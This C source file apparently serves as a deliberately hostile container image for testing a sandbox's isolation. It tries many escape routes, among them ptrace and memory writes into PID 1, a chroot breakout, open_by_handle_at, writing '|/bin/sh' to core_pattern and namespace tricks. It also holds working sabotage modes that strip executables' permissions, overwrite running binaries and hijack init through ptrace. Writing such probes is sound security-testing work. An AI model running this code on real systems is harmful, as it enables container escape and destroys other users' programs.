/* A program of a hostile image: what it tries in its container, a line each, `NAME: ok` or the name of an errno.

   escapes tries KEYRING  the table; of the user's keyring that has this number
   escapes spoil          takes away the mode of what every process here runs; gives it back where that is of the image
   escapes stay MARK      outlives whom it can, and writes over what every process here ran, as soon as nobody runs it
   escapes take MARK      the same; the first process leaves its session and its death signal, and becomes `escapes idle` */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#define NS_GET_USERNS _IO(0xb7, 0x1)
#define NS_GET_PARENT _IO(0xb7, 0x2)
#define MOST_PIDS 70000
#define MOST_FILES 64

static void say(const char *name, long result) {
    printf("%s: %s\n", name, result < 0 ? strerrorname_np(errno) : "ok");
    fflush(stdout);
}

/* In a process of its own: what one try changes is not there for the next. */
#define TRY(name, ...)                                                                                                 \
    do {                                                                                                               \
        fflush(stdout);                                                                                                \
        if (fork() == 0) {                                                                                             \
            errno = 0;                                                                                                 \
            say(name, (long)(__VA_ARGS__));                                                                            \
            _exit(0);                                                                                                  \
        }                                                                                                              \
        wait(NULL);                                                                                                    \
    } while (0)

static long opened(const char *path, int flags) { return open(path, flags | O_NOCTTY | O_CLOEXEC | O_NONBLOCK); }

static long written(const char *path, const char *text) {
    long file = opened(path, O_WRONLY);
    return file < 0 ? file : write((int)file, text, strlen(text));
}

/* Whether one file of a folder can be opened for writing; ENOENT where there is none. */
static long any_of(const char *folder, const char *name) {
    DIR *entries = opendir(folder);
    char path[4096];
    int seen = ENOENT;
    if (entries == NULL) return -1;
    for (struct dirent *each; (each = readdir(entries)) != NULL;) {
        if (each->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s%s%s", folder, each->d_name, *name ? "/" : "", name);
        if (opened(path, O_RDWR) >= 0) return 0;
        if (errno != ENOENT && errno != ENOTDIR) seen = errno;
    }
    errno = seen;
    return -1;
}

static long of_clone3(unsigned long long flags) {
    struct clone_args words = {.flags = flags, .exit_signal = SIGCHLD};
    long child = syscall(SYS_clone3, &words, sizeof words);
    if (child == 0) _exit(0);
    return child;
}

static long out_of_chroot(void) {
    struct stat before, after;
    if (stat("/", &before) < 0 || mkdir("/tmp/lumiimg-jail", 0700) < 0) return -1;
    int failed = chroot("/tmp/lumiimg-jail");
    for (int number = 0; number < 64; number++) failed = failed < 0 ? failed : chdir("..");
    failed = failed < 0 ? failed : chroot(".");
    int error = errno;
    rmdir(failed < 0 ? "/tmp/lumiimg-jail" : "tmp/lumiimg-jail");
    errno = error;
    if (failed < 0 || stat("/", &after) < 0) return -1;
    errno = EXDEV; /* the container's root again */
    return before.st_dev == after.st_dev && before.st_ino == after.st_ino ? -1 : 0;
}

static long handle_of_the_root(void) {
    struct {
        struct file_handle head;
        unsigned char id[128];
    } handle = {.head = {.handle_bytes = 8, .handle_type = 1}, .id = {2}}; /* ext4: inode 2 is its root */
    return open_by_handle_at((int)opened("/tmp", O_RDONLY), &handle.head, O_RDONLY);
}

static long of_limits(void) {
    struct rlimit limit;
    getrlimit(RLIMIT_NOFILE, &limit);
    limit.rlim_max += 1;
    return setrlimit(RLIMIT_NOFILE, &limit);
}

static int tries(long keyring) {
    char text[1] = "x", read_back[8];
    struct iovec ours = {text, 1}, theirs = {read_back, 1};
    int reachable = 0;
    unsigned char words[512] = {0};

    for (int pid = 1; pid < MOST_PIDS; pid++) reachable += kill(pid, 0) == 0 || errno == EPERM;
    printf("processes: %d\n", reachable);
    TRY("write /proc/1/exe", opened("/proc/1/exe", O_WRONLY));
    TRY("/proc/1/mem", opened("/proc/1/mem", O_RDWR));
    TRY("/proc/1/maps", opened("/proc/1/maps", O_RDONLY));
    TRY("/proc/1/fd", opened("/proc/1/fd", O_RDONLY));
    TRY("/proc/1/root", opened("/proc/1/root/etc/ld.so.cache", O_RDONLY));
    TRY("/proc/1/cwd", opened("/proc/1/cwd/../../../../../../../etc/ld.so.cache", O_RDONLY));
    TRY("/proc/1/map_files", any_of("/proc/1/map_files", ""));
    TRY("ptrace 1", ptrace(PTRACE_SEIZE, 1, 0, 0));
    TRY("process_vm_writev 1", process_vm_writev(1, &ours, 1, &theirs, 1, 0));
    TRY("namespace of processes above", ioctl((int)opened("/proc/self/ns/pid", O_RDONLY), NS_GET_PARENT));
    TRY("namespace of users above", ioctl((int)opened("/proc/self/ns/user", O_RDONLY), NS_GET_PARENT));
    TRY("namespace of users of its network", ioctl((int)opened("/proc/self/ns/net", O_RDONLY), NS_GET_USERNS));
    TRY("unshare users", unshare(CLONE_NEWUSER));
    TRY("clone3 users", of_clone3(CLONE_NEWUSER));
    TRY("unshare users and mounts", unshare(CLONE_NEWUSER | CLONE_NEWNS));
    TRY("raise max_user_namespaces", written("/proc/sys/user/max_user_namespaces", "100"));
    TRY("chroot", out_of_chroot());
    TRY("umount /", umount2("/", MNT_DETACH));
    TRY("open_by_handle_at", handle_of_the_root());
    TRY("mknod", mknod("/tmp/lumiimg-disk", S_IFBLK | 0600, makedev(8, 0)));
    TRY("/dev/mem", opened("/dev/mem", O_RDWR));
    TRY("/dev/tty", opened("/dev/tty", O_RDWR));
    TRY("core_pattern", written("/proc/sys/kernel/core_pattern", "|/bin/sh"));
    TRY("sysrq-trigger", opened("/proc/sysrq-trigger", O_WRONLY));
    TRY("uevent_helper", opened("/sys/kernel/uevent_helper", O_WRONLY));
    TRY("cgroup", any_of("/sys/fs/cgroup", "cgroup.procs"));
    TRY("cgroup of the parent", opened("/sys/fs/cgroup/cgroup.procs", O_WRONLY));
    TRY("sethostname", sethostname("x", 1));
    TRY("init_module", syscall(SYS_init_module, words, 1, ""));
    TRY("bpf", syscall(SYS_bpf, 0, words, 72));
    TRY("rlimit", of_limits());
    TRY("priority of all of the user's", setpriority(PRIO_USER, 0, -5));
    TRY("a key of the session", syscall(SYS_keyctl, 10, -3, "user", "lumiimg-key", 0));
    TRY("the user's keyring", syscall(SYS_keyctl, 8, keyring, -3));
    TRY("userfaultfd", syscall(SYS_userfaultfd, 0));
    TRY("io_uring", syscall(SYS_io_uring_setup, 1, words));
    TRY("fanotify", syscall(SYS_fanotify_init, 0, O_RDONLY));
    TRY("setns", syscall(SYS_setns, opened("/proc/1/ns/mnt", O_RDONLY), 0));
    return 0;
}

/* Call something for each process here. */
static void each_program(void (*act)(const char *path)) {
    char path[300];
    DIR *processes = opendir("/proc");
    for (struct dirent *each; processes && (each = readdir(processes)) != NULL;) {
        if (each->d_name[0] < '0' || each->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/exe", each->d_name);
        act(path);
    }
    if (processes) closedir(processes);
}

static void spoil(const char *path) {
    char name[4096] = "";
    if (readlink(path, name, sizeof name - 1) > 0 && chmod(path, 0) == 0 && !strncmp(name, "/bin/", 5)) chmod(name, 0755);
}

static int held[MOST_FILES], count;

static void hold(const char *path) {
    if (count < MOST_FILES && (held[count] = open(path, O_RDONLY)) >= 0) count++;
}

#ifdef __x86_64__
/* Have the first process, which is stopped in a system call, do another one. */
static void have_call(struct user_regs_struct was, long number, long first, long second) {
    was.rip -= 2; /* the instruction again */
    was.rax = (unsigned long)number, was.rdi = (unsigned long)first, was.rsi = (unsigned long)second, was.rdx = 0;
    was.orig_rax = -1UL;
    ptrace(PTRACE_SETREGS, 1, 0, &was);
    ptrace(PTRACE_SINGLESTEP, 1, 0, 0);
    waitpid(1, NULL, __WALL);
}

static void take_first(void) {
    struct user_regs_struct was;
    struct {
        unsigned long argv[3];
        char program[24], mode[8];
    } words = {{0}, "/bin/escapes", "idle"};
    if (ptrace(PTRACE_SEIZE, 1, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, 1, 0, 0) < 0) return;
    waitpid(1, NULL, __WALL);
    ptrace(PTRACE_GETREGS, 1, 0, &was);
    unsigned long at = (was.rsp - 1024) & ~15UL;
    words.argv[0] = at + offsetof(__typeof__(words), program), words.argv[1] = at + offsetof(__typeof__(words), mode);
    struct iovec ours = {&words, sizeof words}, theirs = {(void *)at, sizeof words};
    process_vm_writev(1, &ours, 1, &theirs, 1, 0);
    have_call(was, SYS_prctl, PR_SET_PDEATHSIG, 0);
    have_call(was, SYS_setsid, 0, 0);
    have_call(was, SYS_execve, (long)words.argv[0], (long)at);
    ptrace(PTRACE_DETACH, 1, 0, 0);
}
#else
static void take_first(void) {}
#endif

static void idle(void) {
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    for (;;) pause();
}

static int stay(int takes) {
    char path[64];
    if (fork() > 0) _exit(0);
    setsid();
    if (fork() > 0) _exit(0);
    prctl(PR_SET_PDEATHSIG, 0);
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    each_program(hold);
    if (takes) take_first();
    for (;;) {
        for (int number = 0; number < count; number++) {
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[number]);
            int file = open(path, O_WRONLY);
            if (file >= 0 && write(file, "#!/bin/sh\n", 10)) close(file);
        }
        usleep(1000);
    }
}

int main(int argc, char **argv) {
    if (argc > 2 && !strcmp(argv[1], "tries")) return tries(atol(argv[2]));
    if (argc > 1 && !strcmp(argv[1], "spoil")) each_program(spoil);
    if (argc > 1 && !strcmp(argv[1], "idle")) idle();
    return argc > 2 ? stay(!strcmp(argv[1], "take")) : 0;
}
